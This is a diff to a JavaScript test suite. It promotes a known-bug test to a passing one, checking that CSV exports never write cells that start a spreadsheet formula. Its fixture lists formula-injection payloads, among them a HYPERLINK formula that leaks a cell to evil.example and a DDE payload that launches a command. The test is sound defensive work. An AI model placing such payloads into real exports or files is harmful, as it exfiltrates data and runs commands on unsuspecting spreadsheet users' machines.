@@ -434,7 +434,7 @@ describe('every server the app starts listens on 127.0.0.1 only', () => {
 });
 
 describe('exports opened in a spreadsheet', () => {
-  it.fails('[known bug: CSV exports write cells starting with = + - @ as they are, so ad text or OCR text like =HYPERLINK(…) runs as a formula in Excel/Numbers] no exported CSV cell starts a formula', async () => {
+  it('no exported CSV cell starts a formula', async () => {
     const dir = join(workDir, 'formula');
     const store = openStore(join(dir, 'pv.db'));
     const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
